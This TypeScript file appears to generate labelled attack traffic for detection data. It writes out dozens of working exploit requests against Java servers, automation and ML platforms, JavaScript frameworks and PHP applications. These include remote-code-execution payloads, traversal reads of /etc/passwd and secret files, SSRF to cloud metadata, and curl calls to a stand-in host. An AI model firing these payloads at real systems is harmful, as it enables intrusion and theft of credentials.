import type { Chance } from '../chance.ts';
import type { WholeWriter } from '../whole.ts';

const form = 'application/x-www-form-urlencoded';
const id = 'require("child_process").execSync("id")';

/** Known holes of programs that people install: each as it is exploited. */
export function writeProducts(write: WholeWriter, chance: Chance): void {
  writeAutomation(write, chance);
  writeMachineLearning(write);
  write.as({ class: 'advisory', technique: 'java servers' });
  write.get(
    '/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp',
    { c2: '<%' },
  );
  write.send('/functionRouter', 'text/plain', 'a', {
    headers: { 'spring.cloud.function.routing-expression': 'T(java.lang.Runtime).getRuntime().exec("id")' },
  });
  write.json('/actuator/gateway/routes/x', {
    id: 'x',
    filters: [
      { name: 'AddResponseHeader', args: { name: 'R', value: '#{T(java.lang.Runtime).getRuntime().exec("id")}' } },
    ],
    uri: 'http://a.example',
  });
  write.get(
    '/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%29%29%7D/',
  );
  write.send(
    '/pages/createpage-entervariables.action',
    form,
    'queryString=%5cu0027%2b%7bClass.forName%28%5cu0027javax.script.ScriptEngineManager%5cu0027%29%7d%2b%5cu0027',
  );
  write.send(
    '/template/aui/text-inline.vm',
    form,
    'label=\\u0027%2b#request\\u005b\\u0027.KEY_velocity.struts2.context\\u0027\\u005d.internalGet(\\u0027ognl\\u0027).findValue(#parameters.x,{})%2b\\u0027&x=(new freemarker.template.utility.Execute()).exec({"id"})',
  );
  write.get('/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false');
  write.send(
    '/struts2/login.action',
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id').(new java.lang.ProcessBuilder({#cmd})).start()}",
    'x',
  );
  write.get(
    '/?redirect:$%7B%23a%3d(new%20java.lang.ProcessBuilder(new%20java.lang.String[]%7B%22id%22%7D)).start()%7D',
  );
  write.send(
    '/wls-wsat/CoordinatorPortType',
    'text/xml',
    '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java><void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></void></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>',
  );
  write.get(
    '/console/css/%252e%252e%252fconsole.portal?_nfpb=true&handle=com.tangosol.coherence.mvel2.sh.ShellSession(%22java.lang.Runtime.getRuntime().exec(%27id%27)%22)',
  );
  write.get(
    '/geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=sf:archsites&valueReference=exec(java.lang.Runtime.getRuntime(),%27id%27)',
  );
  write.get('/api/jolokia/exec/org.apache.logging.log4j2:type=x/setConfigText/a/b', {}, 'POST');
  write.get(
    '/solr/core/select?q=1&wt=velocity&v.template=custom&v.template.custom=%23set($x=%27%27)+%23set($rt=$x.class.forName(%27java.lang.Runtime%27))',
  );
  write.json('/solr/core/config', {
    'update-queryresponsewriter': {
      name: 'velocity',
      class: 'solr.VelocityResponseWriter',
      'params.resource.loader.enabled': 'true',
    },
  });
  write.send('/nacos/v1/auth/users', form, 'username=x&password=y', { headers: { 'user-agent': 'Nacos-Server' } });
  write.get('/nacos/v1/cs/ops/derby?sql=select%20*%20from%20users');
  write.get(
    '/xwiki/bin/get/Main/SolrSearch?media=rss&text=%7D%7D%7D%7B%7Basync%20async%3Dfalse%7D%7D%7B%7Bgroovy%7D%7Dprintln(%22id%22.execute().text)%7B%7B%2Fgroovy%7D%7D%7B%7B%2Fasync%7D%7D',
  );
  write.json('/api/setup/validate', {
    token: chance.uuid(),
    details: {
      engine: 'h2',
      details: {
        db: "zip:/app/metabase.jar!/sample.db;TRACE_LEVEL_SYSTEM_OUT=1\\;CREATE TRIGGER p BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS $$//javascript\njava.lang.Runtime.getRuntime().exec('id')\n$$--=x",
      },
    },
  });
  write.get('/', {
    cookie: `rememberMe=${Buffer.from(chance.word(260)).toString('base64')}; rememberMe=deleteMe`,
    'user-agent': 'ShiroExploit',
  });
  write.send('/app/rest/users/id:1/tokens/RPC2', 'application/json', '{}');
  write.get('/hax?jsp=/app/rest/server;.jsp');
  write.get('/cli?remoting=false', { session: chance.uuid(), side: 'download' }, 'POST');
  write.get(
    '/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript?sandbox=true&value=public%20class%20x%7Bpublic%20x()%7B%22id%22.execute()%7D%7D',
  );
  write.send('/scriptText', form, 'script=println("id".execute().text)');
  write.json('/api/v1/method.callAnon/getPasswordPolicy', {
    message: JSON.stringify({ msg: 'method', method: 'getPasswordPolicy', params: [{ token: { $regex: '^a' } }] }),
  });
  write.get('/plugins/servlet/oauth/users/icon-uri?consumerUri=http://169.254.169.254/latest/meta-data/');
  write.get('/s/x/_/;/WEB-INF/web.xml');
  write.get('/webtools/control/xmlrpc;/?USERNAME=&PASSWORD=s&requirePasswordChange=Y', {}, 'POST');
  write.send(
    '/webtools/control/forgotPassword/ProgramExport',
    form,
    'groovyProgram=throw+new+Exception(%27id%27.execute().text)',
  );
  writeScriptSites(write, chance);
}

function writeAutomation(write: WholeWriter, chance: Chance): void {
  write.as({ class: 'advisory', technique: 'holes of the platforms behind', site: 'n8n' });
  for (const path of [
    '/etc/passwd',
    '/home/node/.n8n/database.sqlite',
    '/home/node/.n8n/config',
    '/proc/self/environ',
    '/root/.n8n/config',
  ])
    for (const to of ['/form/contact', `/form/${chance.uuid()}`])
      write.json(to, {
        data: {},
        files: { 'field-0': { filepath: path, originalFilename: 'a.pdf', mimetype: 'application/pdf', size: 9 } },
      });
  for (const expression of [
    `{{ (function(){ return this.process.mainModule.${id}.toString() })() }}`,
    `{{ $json.constructor.constructor('return process.env')() }}`,
    `{{ this.constructor.constructor("return process")().mainModule.${id} }}`,
  ])
    for (const to of ['/webhook/lead', '/webhook-test/x', '/form/contact'])
      write.json(to, { name: `=${expression}`, note: expression });
  write.get('/rest/binary-data?id=filesystem-v2:../../../../home/node/.n8n/config&action=view');
  write.get('/icons/@x/../../../../../../etc/passwd');
  write.get('/types/%2e%2e/%2e%2e/%2e%2e/.n8n/config');
  write.get('/rest/oauth2-credential/callback?code=x&state=%3Cscript%3Ealert(document.domain)%3C/script%3E');
  write.as({ class: 'advisory', technique: 'holes of the platforms behind', site: 'flowise' });
  for (const code of [id, 'process.mainModule.require("fs").readFileSync("/etc/passwd","utf8")', 'process.env'])
    write.json('/api/v1/node-load-method/customMCP', {
      loadMethod: 'listActions',
      inputs: { mcpServerConfig: `({x:(function(){const cp = process.mainModule.${id};return ${code}})()})` },
    });
  for (const command of ['sh', 'npx', '/bin/bash', 'python3'])
    write.json('/api/v1/node-load-method/customMCP', {
      loadMethod: 'listActions',
      inputs: { mcpServerConfig: JSON.stringify({ command, args: ['-c', 'curl http://x.oast.example/$(id)'] }) },
    });
  for (const folder of ['../../../../root/.flowise', '..%2f..%2f..%2fusr', '../../../../tmp'])
    for (const file of ['api.json', 'x'])
      write.send(
        `/api/v1/attachments/${encodeURIComponent(folder)}/${file}`,
        'multipart/form-data; boundary=q',
        `--q\r\nContent-Disposition: form-data; name="files"; filename="${file}"\r\nContent-Type: application/json\r\n\r\n[{"keyName":"x","apiKey":"attacker"}]\r\n--q--\r\n`,
      );
  for (const name of ['../../../../etc/passwd', '../../../../root/.flowise/database.sqlite', '..\\..\\encryption.key'])
    write.get(
      `/api/v1/get-upload-file?chatflowId=${chance.uuid()}&chatId=${chance.uuid()}&fileName=${encodeURIComponent(name)}`,
    );
  for (const key of ['vars', 'analytics', 'functionInputVariables'])
    write.json(`/api/v1/prediction/${chance.uuid()}`, {
      question: 'hi',
      overrideConfig: { [key]: { x: `{{ process.mainModule.${id} }}` }, functionName: `x'); ${id}; //` },
    });
  write.json(`/api/v1/prediction/${chance.uuid()}`, {
    question: 'x',
    overrideConfig: { mcpServerConfig: '{"command":"sh","args":["-c","id"]}' },
  });
  write.json(`/api/v1/prediction/${chance.uuid()}`, {
    question: 'run',
    overrideConfig: { customFunctionInputVariables: '{}', javascriptFunction: `return ${id}.toString()` },
  });
  write.json('/API/v1/chatflows', { name: 'x', flowData: '{}' });
  write.get('/Api/V1/credentials');
  for (const file of ['file:///etc/passwd', 'file:///root/.flowise/encryption.key'])
    write.json('/api/v1/fetch-links', { url: file, relativeLinksMethod: 'webCrawl', limit: 10 });
}

function writeMachineLearning(write: WholeWriter): void {
  write.as({ class: 'advisory', technique: 'servers of models and notebooks' });
  write.json('/api/v1/validate/code', {
    code: '@exec(\'raise Exception(__import__("subprocess").check_output("id"))\')\ndef f():\n  pass',
  });
  write.json('/api/v1/build_public_tmp/x/flow', {
    data: { nodes: [{ data: { node: { template: { code: { value: 'import os;os.system("id")' } } } } }] },
  });
  write.json('/ajax-api/2.0/mlflow/model-versions/create', { name: 'x', source: 'file:///etc/../etc/' });
  write.get('/model-versions/get-artifact?path=../../../../etc/passwd&name=x&version=1');
  write.get('/file=/etc/passwd');
  write.get('/file%3D..%2f..%2f..%2f.env');
  write.json('/component_server', {
    component_id: '1',
    data: '/etc/passwd',
    fn_name: 'move_resource_to_block_cache',
    session_hash: 'a',
  });
  write.json('/api/jobs/', { entrypoint: 'curl http://x.oast.example/`id`' });
  write.get('/api/v0/logs/file?node_id=1&filename=../../../../../etc/passwd&lines=50');
  write.json('/api/pull', { name: 'http://198.51.100.8/rogue/m', insecure: true });
  write.send('/api/blobs/sha256:../../../../../etc/ld.so.preload', 'application/octet-stream', 'x');
  write.json('/api/v1/dags/example_trigger_target_dag/dagRuns', { conf: { message: '"; id #' } });
  write.send(
    '/superset/sql_json/',
    'application/x-www-form-urlencoded',
    'sql=select+pg_read_file(%27/etc/passwd%27)&database_id=1',
  );
  write.json('/v1/chat/completions', {
    model: 'x',
    chat_template: "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    messages: [],
  });
  write.json('/api/v1/cells', { code: '__import__("os").system("id")' });
}

function writeScriptSites(write: WholeWriter, chance: Chance): void {
  write.as({ class: 'advisory', technique: 'javascript frameworks' });
  for (const path of ['/admin', '/dashboard', '/api/users'])
    for (const value of [
      'middleware',
      'src/middleware',
      'middleware:middleware:middleware:middleware:middleware',
      'pages/_middleware',
    ])
      write.get(path, { 'x-middleware-subrequest': value });
  for (const [turn, command] of ['id', 'cat /etc/passwd', 'curl x.oast.example', 'env'].entries())
    write.send(
      '/',
      'multipart/form-data; boundary=r2',
      `--r2\r\nContent-Disposition: form-data; name="0"\r\n\r\n{"then":"$1:__proto__:then","status":"resolved_model","reason":-1,"value":"{\\"then\\":\\"$B${turn}\\"}","_response":{"_prefix":"process.mainModule.require('child_process').execSync('${command}');","_chunks":"$Q2","_formData":{"get":"$1:constructor:constructor"}}}\r\n--r2\r\nContent-Disposition: form-data; name="1"\r\n\r\n"$@0"\r\n--r2--\r\n`,
      { headers: { 'next-action': chance.hex(40) } },
    );
  write.get('/_next/image?url=http://169.254.169.254/latest/meta-data/&w=64&q=75');
  write.get('/@fs/etc/passwd?import&raw??');
  write.get('/@fs/app/.env?url&raw');
  write.get('/_nuxt/@fs/etc/passwd');
  write.get('/__nuxt_vite_node__/module//etc/passwd');
  write.get('/..%2f..%2f..%2f..%2fetc%2fpasswd', { 'accept-encoding': 'identity' });
  write.get('/public/plugins/alertlist/../../../../../../../../etc/passwd');
  write.get('/public/plugins/text/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/var/lib/grafana/grafana.db');
  write.json('/api/ds/query?ds_type=__expr__', {
    queries: [
      {
        refId: 'B',
        datasource: { type: '__expr__' },
        type: 'sql',
        expression: "SELECT content FROM read_blob('/etc/passwd')",
      },
    ],
  });
  write.json(
    '/api/timelion/run',
    {
      sheet: ['.es(*).props(label.__proto__.env.AAAA=\'require("child_process").exec("id")\')'],
      time: { from: 'now-15m', to: 'now' },
    },
    { 'kbn-xsrf': '1' },
  );
  write.get('/?u=1&x-strapi=1&where[password][$startsWith]=$2a');
  write.get('/api/auth/callback?sort[password]=asc&filters[$or][0][resetPasswordToken][$startsWith]=a');
  write.as({ class: 'advisory', technique: 'php applications' });
  write.send(
    '/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax',
    form,
    'form_id=user_register_form&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id',
  );
  write.json('/_ignition/execute-solution', {
    solution: 'Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution',
    parameters: {
      variableName: 'x',
      viewFile: 'php://filter/write=convert.base64-decode/resource=../storage/logs/laravel.log',
    },
  });
  write.get(
    '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id',
  );
  write.get('/index.php?lang=../../../../../usr/local/lib/php/pearcmd&+config-create+/&/%3C?=md5(1);?%3E+/tmp/h.php');
  write.send('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 'text/plain', '<?php echo md5("x");');
  write.send(
    '/cgi-bin/php-cgi.exe?%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input',
    'text/plain',
    '<?php system("id");',
  );
  write.send(
    '/ajax/render/widget_tabbedcontainer_tab_panel',
    form,
    'subWidgets[0][template]=widget_php&subWidgets[0][config][code]=phpinfo();',
  );
  write.get('/api/index.php/v1/config/application?public=true');
  write.send('/wp-admin/admin-ajax.php', form, 'action=revslider_show_image&img=../wp-config.php');
  write.json('/wp-json/wp/v2/posts/1?id=1x', { id: '1x', content: '<script src=//x.oast.example></script>' });
  write.json('/wp-json/bricks/v1/render_element', {
    postId: '1',
    nonce: 'x',
    element: {
      name: 'container',
      settings: {
        hasLoop: 'true',
        query: { useQueryEditor: true, queryEditor: 'throw new Exception(`id`);', objectType: 'post' },
      },
    },
  });
  write.get('/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php?cmd=mkfile&target=l1_&name=x.php');
  write.get(
    '/wp-json/wc/store/products/collection-data?calculate_attribute_counts[0][taxonomy]=%252522%252529%252520union%252520select%252520sleep(5)',
  );
  write.get(
    '/wp-content/plugins/duplicator/files/installer.php?action=duplicator_download&file=../../../../wp-config.php',
  );
  write.send(
    '/wp-login.php?action=register',
    form,
    'user_login=x&wp_capabilities[administrator]=1&user_email=x@evil.example',
  );
  write.send('/index.php/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php/.css', form, 'a=1');
  write.send(
    '/?_task=settings&_action=upload&_from=edit-!xxx&_id=1',
    'multipart/form-data; boundary=k',
    '--k\r\nContent-Disposition: form-data; name="_file[]"; filename="x|O:16:\\"Crypt_GPG_Engine\\":1:{s:9:\\"_gpgconf\\";s:5:\\"id;#\\";}"\r\n\r\nx\r\n--k--\r\n',
  );
  write.send(
    '/index.php?p=admin/actions/assets/generate-transform',
    'application/json',
    '{"assetId":1,"handle":{"width":1,"height":1,"as session":{"class":"craft\\\\behaviors\\\\FieldLayoutBehavior","__class":"GuzzleHttp\\\\Psr7\\\\FnStream","__construct()":[[]],"_fn_close":"phpinfo"}}}',
  );
  write.json('/rest/V1/guest-carts/1/estimate-shipping-methods', {
    address: {
      totalsCollector: {
        collectorList: {
          totalCollector: { sourceData: { data: 'http://x.oast.example/d.xml', dataIsURL: true, options: 12345678 } },
        },
      },
    },
  });
  write.get('/cacti/remote_agent.php?action=polldata&local_data_ids[0]=1&host_id=1&poller_id=;id>/tmp/x', {
    'x-forwarded-for': '127.0.0.1',
  });
  write.get('/index.php?module=Users&parent=Settings&view=../../../../../../../etc/passwd%00');
  write.send('/glpi/vendor/htmlawed/htmlawed/htmLawedTest.php', form, 'sid=foo&hhook=exec&text=id');
  write.send('/mgmt.php?page=Preferences', form, 'lang=../../../../../../proc/self/environ%00');
}
